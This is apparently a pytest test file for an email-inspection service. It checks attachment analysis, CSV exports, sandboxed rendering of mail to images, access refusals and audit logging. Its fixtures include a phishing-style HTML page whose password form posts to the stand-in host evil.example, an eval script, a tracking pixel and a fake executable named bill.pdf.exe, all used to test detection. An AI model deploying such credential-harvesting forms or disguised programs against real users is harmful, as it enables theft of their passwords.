"""Files taken apart and pictures drawn: only with the right, on the record, only while the mail is there."""

import io
import zipfile
from html import unescape

import pytest
from PIL import Image

from watchfloor.access.models import AuditEntry
from watchfloor.inspection.rendering.program import choose_chromium
from watchfloor.mail import deep, kept
from watchfloor.mail.selectors import entity

PAGE = b"<html><body><form action='https://evil.example/x'><input type=password></form><script>eval('1')</script></body></html>"
HTML = "<html><body style='background:#0a0'><h1>Dear Ann</h1><img src='https://evil.example/p.gif'></body></html>"


def packed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("in/bill.html", PAGE)
    return out.getvalue()


def looks(verb: str) -> list[str]:
    return list(AuditEntry.objects.filter(verb=verb).order_by("id").values_list("outcome", flat=True))


def address_of(key: str, number: int = 0) -> str:
    return f"/email/{key}/attachments/{entity(key).record.attachments[number]['SHA256']}"


def text_of(answer) -> str:
    return unescape(answer.content.decode())


def picture_in(fragment: str) -> str:
    return unescape(fragment.split('src="')[1].split('"')[0])


def test_the_fly_out_of_a_file_shows_its_tree_behaviours_and_indicators(as_ada, received):
    page = text_of(as_ada.get(address_of(received(files=(("bill.zip", packed()),)))))
    assert "bill.html" in page
    assert "Asks for a password" in page
    assert "https://evil.example/x" in page
    assert "Only HTML and SVG files have a picture." in page
    assert looks("email.analyse") == ["attempt", "success"]


def test_what_was_not_found_is_said_for_each_part(as_ada, received):
    page = text_of(as_ada.get(address_of(received(files=(("note.txt", b"plain words\n"),)))))
    for words in (
        "Nothing lies inside this file",
        "Nothing in this file acts by itself",
        "None of the rules matches.",
        "No link was found.",
        "No macros.",
        "This kind of file is not read for its structure.",
    ):
        assert words in page


def test_a_program_says_that_it_is_one(as_ada, received):
    program = b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0" + bytes(200)
    assert "Is a program" in text_of(as_ada.get(address_of(received(files=(("bill.pdf.exe", program),)))))


@pytest.mark.parametrize(
    ("what", "head", "line"),
    [
        ("tree", '"Top","Level1","Level2","Type"', '"","","bill.html","text/html"'),
        ("behaviours", '"Level","Behaviour"', '"high","Asks for a password"'),
        ("indicators", '"Kind","Value"', '"URL","https://evil.example/x"'),
    ],
)
def test_each_list_is_exported_on_the_record(as_ada, received, what, head, line):
    answer = as_ada.get(f"{address_of(received(files=(('bill.zip', packed()),)))}/{what}.csv")
    lines = b"".join(answer.streaming_content).decode()
    assert lines.startswith(head)
    assert line in lines
    assert looks("email.analyse") == ["attempt", "success"]


def test_the_list_of_attachments_is_exported(as_ada, received):
    answer = as_ada.get(f"/email/{received(files=(('bill.zip', packed()),))}/attachments.csv")
    lines = b"".join(answer.streaming_content).decode().splitlines()
    assert lines[0].startswith('"File name"')
    assert '"bill.zip"' in lines[1]


def test_a_stored_analysis_is_used_again_but_not_when_its_mail_is_gone(as_ada, received, monkeypatch):
    from watchfloor.connectors.intake import raw_root
    from watchfloor.connectors.store import path_of
    from watchfloor.inspection import services

    key = received(files=(("bill.zip", packed()),))
    address = address_of(key)
    first = as_ada.get(address).content
    monkeypatch.setattr(services, "analyse_apart", None)
    assert as_ada.get(address).content == first
    path_of(raw_root(), entity(key).record.sha256).unlink()
    assert as_ada.get(address).status_code == 404


def test_a_stored_analysis_that_somebody_changed_is_made_anew(as_ada, received):
    key = received(files=(("bill.zip", packed()),))
    as_ada.get(address_of(key))
    for path in kept.folder().glob("analysis-*"):
        path.write_bytes(b'{"tree": 1}')
    assert "Asks for a password" in text_of(as_ada.get(address_of(key)))


def test_a_hash_that_the_mail_does_not_carry_is_not_found(as_ada, received):
    assert as_ada.get(f"/email/{received()}/attachments/{'0' * 64}").status_code == 404


def test_the_manager_and_eve_see_no_analysis_and_no_picture(as_max, as_eve, received):
    key = received(files=(("bill.html", PAGE),))
    paths = [f"/email/{key}/picture", f"/email/{key}/picture.png"]
    paths += [f"{address_of(key)}{part}" for part in ("", "/picture", "/picture.png", "/tree.csv", "/behaviours.csv")]
    for path in paths:
        assert as_max.get(path).status_code == 403
        assert as_eve.get(path).status_code == 403


def test_the_picture_of_a_mail_is_drawn_on_the_record(as_ada, received):
    fragment = as_ada.get(f"/email/{received(html=HTML)}/picture").content.decode()
    answer = as_ada.get(picture_in(fragment))
    drawn = Image.open(io.BytesIO(answer.content)).convert("RGB")
    assert drawn.getpixel((400, 5)) == (0, 170, 0)
    assert answer["Content-Security-Policy"].endswith("sandbox")
    assert looks("email.picture") == ["attempt", "success"]


def test_the_picture_of_an_html_file_is_drawn(as_ada, received):
    key = received(files=(("bill.html", b"<body style='background:#00a'>x</body>"),))
    fragment = as_ada.get(f"{address_of(key)}/picture").content.decode()
    drawn = Image.open(io.BytesIO(as_ada.get(picture_in(fragment)).content)).convert("RGB")
    assert drawn.getpixel((400, 5)) == (0, 0, 170)


def test_a_picture_without_the_pass_of_a_look_on_the_record_is_refused(as_ada, received):
    key = received(html=HTML)
    assert as_ada.get(f"/email/{key}/picture.png").status_code == 403
    assert as_ada.get(f"/email/{key}/picture.png?pass=forged").status_code == 403
    assert looks("email.picture") == []


def test_a_mail_without_html_says_that_it_has_no_picture(as_ada, received):
    assert "This mail has no HTML" in text_of(as_ada.get(f"/email/{received(html='')}/picture"))


def test_without_chromium_the_page_says_what_to_install(as_ada, received):
    key = received(html=HTML)
    choose_chromium("/no/such/program")
    try:
        page = text_of(as_ada.get(f"/email/{key}/picture"))
    finally:
        choose_chromium("")
    assert "There is no picture" in page
    assert "/no/such/program" in page


def test_the_preview_offers_the_picture_beside_the_safe_view(as_ada, received):
    page = as_ada.get(f"/email/{received(html=HTML)}/preview?look=picture").content.decode()
    assert "/picture?recipient=" in page
    assert "<iframe" not in page


def test_pictures_of_the_mail_itself_are_put_in_by_their_content_id():
    from watchfloor.inspection.services import page_of

    raw = (
        b'From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/html\r\n\r\n<img src='cid:logo'>\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <logo>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"
    )
    html, pictures = page_of(raw)
    assert "cid:logo" in html
    assert pictures == {"logo": b"\x89PNG\r\n\x1a\n"}


def test_what_was_looked_at_longest_ago_makes_room(db):
    import os

    for number in range(4):
        kept.keep("picture", f"room {number}", b"x" * 10)
        os.utime(kept._path("picture", f"room {number}"), (number + 1, number + 1))
    kept.make_room(most_files=2)
    assert kept.recall("picture", "room 0") is None
    assert kept.recall("picture", "room 3") == b"x" * 10
    kept.make_room(most_bytes=5)
    assert kept.recall("picture", "room 3") is None


def test_a_mail_that_defeated_its_inspection_is_not_taken_apart_again(received):
    from watchfloor.kernel.errors import NotFound

    found = entity(received(html=HTML))
    found.record.summary["unparsable"] = "its worker was killed"
    with pytest.raises(NotFound, match="could not be taken apart"):
        deep.read_picture(found)
